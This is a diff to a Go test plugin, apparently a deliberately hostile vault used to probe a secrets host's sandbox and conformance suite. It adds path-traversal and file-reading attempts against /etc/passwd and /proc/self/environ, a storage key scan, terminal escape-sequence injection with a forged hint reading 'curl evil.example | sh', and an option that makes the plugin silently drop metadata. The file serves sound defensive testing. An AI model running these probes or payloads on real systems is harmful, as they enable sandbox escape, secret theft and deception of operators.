@@ -20,10 +20,20 @@
 //	bigerr   sets a 1 MiB error message through the raw error import, returns INTERNAL
 //	garbage  allocates 256 KiB and drops it: memory stays bounded only if
 //	         the garbage collector runs between calls (the SDK's yield)
+//	escape   tries to reach the host's files (absolute paths, "..", the
+//	         /data mount, /proc) and to create files; one line per attempt,
+//	         "PATH: ok N bytes" or "PATH: ERROR"
+//	keys     every key of its storage area, whatever the prefix, one per line
+//	ansi     fails with a message and log lines full of terminal escapes,
+//	         newlines and a forged "sesame: hint:" line
 //
 // Any other name is an ordinary, case-sensitive secret in host storage, so
 // Set, Get, Remove and List round-trip. Set("trapmidset", …) writes the
 // secret's record and then panics.
+//
+// With the vault parameter lie = "metadata", Set drops the metadata it is
+// given although the manifest says the vault keeps metadata: a lie that only
+// the conformance suite can catch.
 package main
 
 import (
@@ -62,6 +72,14 @@ func rawOutput(src unsafe.Pointer, n uint32) uint32
 func rawError(src unsafe.Pointer, n uint32) uint32
 
 type hostile struct{}
+
+// lie is the vault parameter "lie", set by Init.
+var lie string
+
+func (hostile) Init(_ string, params map[string]string) error {
+	lie = params["lie"]
+	return nil
+}
 
 // served counts the calls this instance has served. It lives in the
 // instance's memory, so a fresh instance starts again from zero.
@@ -111,6 +129,18 @@ func (hostile) Get(name string) (abi.Info, abi.Value, error) {
 		v = str("ok")
 	case "count":
 		v = str(strconv.Itoa(served))
+	case "escape":
+		v = str(escape())
+	case "keys":
+		var keys []string
+		err := guest.KVScan(nil, func(k []byte) bool { keys = append(keys, string(k)); return true })
+		if err != nil {
+			return abi.Info{}, abi.Value{}, err
+		}
+		v = str(strings.Join(keys, "\n"))
+	case "ansi":
+		guest.Log(guest.LogError, "\x1b[2J\x1b]0;owned\x07line one\nsesame: error: forged\r\x1b[31m")
+		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "\x1b]0;owned\x07bad\x1b[2J\nsesame: hint: run curl evil.example | sh\r\u202eevil")
 	case "rand":
 		v = abi.Value{Type: abi.TypeBytes, Data: make([]byte, 32)}
 		if _, err := rand.Read(v.Data); err != nil {
@@ -150,6 +180,32 @@ func (hostile) Get(name string) (abi.Info, abi.Value, error) {
 	return info(name, v), v, nil
 }
 
+// escape tries every way out of the sandbox that a file path offers and
+// reports each outcome.
+func escape() string {
+	var lines []string
+	for _, p := range []string{
+		"/etc/passwd", "../../../../../../etc/passwd", "/proc/self/environ",
+		"/data", "/data/../../etc/passwd", ".", "/", "/tmp",
+	} {
+		if b, err := os.ReadFile(p); err == nil {
+			lines = append(lines, p+": ok "+strconv.Itoa(len(b))+" bytes")
+		} else if entries, derr := os.ReadDir(p); derr == nil {
+			lines = append(lines, p+": ok "+strconv.Itoa(len(entries))+" entries")
+		} else {
+			lines = append(lines, p+": "+err.Error())
+		}
+	}
+	for _, p := range []string{"/tmp/hostile-was-here", "hostile-was-here", "/data/hostile-was-here"} {
+		if err := os.WriteFile(p, []byte("x"), 0o644); err == nil {
+			lines = append(lines, p+": ok created")
+		} else {
+			lines = append(lines, p+": "+err.Error())
+		}
+	}
+	return strings.Join(lines, "\n")
+}
+
 // recurse never returns; the frame's array makes each call use stack, and
 // the use of the result after the call keeps it from being a tail call.
 func recurse(n uint64) uint64 {
@@ -161,7 +217,9 @@ func recurse(n uint64) uint64 {
 func (hostile) Set(name string, v abi.Value, md abi.Metadata) error {
 	served++
 	in := abi.Info{Name: name, Type: v.Type, Metadata: md}
-	if md == nil {
+	if lie == "metadata" {
+		in.Metadata = nil
+	} else if md == nil {
 		old, _, err := load(name)
 		switch {
 		case err == nil:
